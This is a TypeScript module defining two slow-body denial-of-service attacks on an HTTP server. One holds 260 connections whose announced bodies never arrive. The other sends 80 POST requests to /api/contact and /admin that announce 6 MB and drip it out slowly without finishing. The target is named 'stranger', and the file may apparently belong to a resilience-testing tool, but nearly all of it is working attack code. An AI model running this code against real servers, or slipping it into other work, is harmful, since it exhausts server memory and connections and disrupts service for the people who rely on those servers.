import type { Socket } from 'node:net'
import type { Attack } from './attack.ts'
import { hold } from './connections.ts'

const pieceBytes = 64 * 1024
const pieceEveryMs = 150
const announcedBytes = 6_000_000

/** Bodies that are announced and kept back, or sent so slowly that they lie in memory. */
export const bodyAttacks: Attack[] = [
  {
    name: 'announced',
    what: '260 reads with a body that never comes',
    run: (stranger) =>
      hold(stranger, { count: 260, seconds: 12, reads: true }, (socket, index) => {
        const method = index % 4 < 2 ? 'GET' : 'HEAD'
        const length = index % 2 === 0 ? 'Content-Length: 100000' : 'Transfer-Encoding: chunked'
        socket.write(`${method} /api/health HTTP/1.1\r\nHost: ${stranger.host}\r\n${length}\r\n\r\n`)
      }),
  },
  {
    name: 'slowBodies',
    what: '80 bodies of 6 MB, sent slowly',
    run: (stranger) =>
      hold(stranger, { count: 80, seconds: 18, reads: true }, (socket, index) => {
        const path = index % 4 === 0 ? '/api/contact' : '/admin'
        const type = 'Content-Type: application/json'
        const length = `Content-Length: ${announcedBytes}`
        socket.write(`POST ${path} HTTP/1.1\r\nHost: ${stranger.host}\r\n${type}\r\n${length}\r\n\r\n`)
        sendSlowly(socket)
      }),
  },
]

/** All but the last bytes, piece by piece, as long as somebody takes them. */
function sendSlowly(socket: Socket): void {
  const piece = Buffer.alloc(pieceBytes, 'a')
  let left = announcedBytes - pieceBytes
  const timer = setInterval(() => {
    if (left < pieceBytes || socket.destroyed) return clearInterval(timer)
    if (socket.writableLength > pieceBytes) return
    socket.write(piece)
    left -= pieceBytes
  }, pieceEveryMs)
}
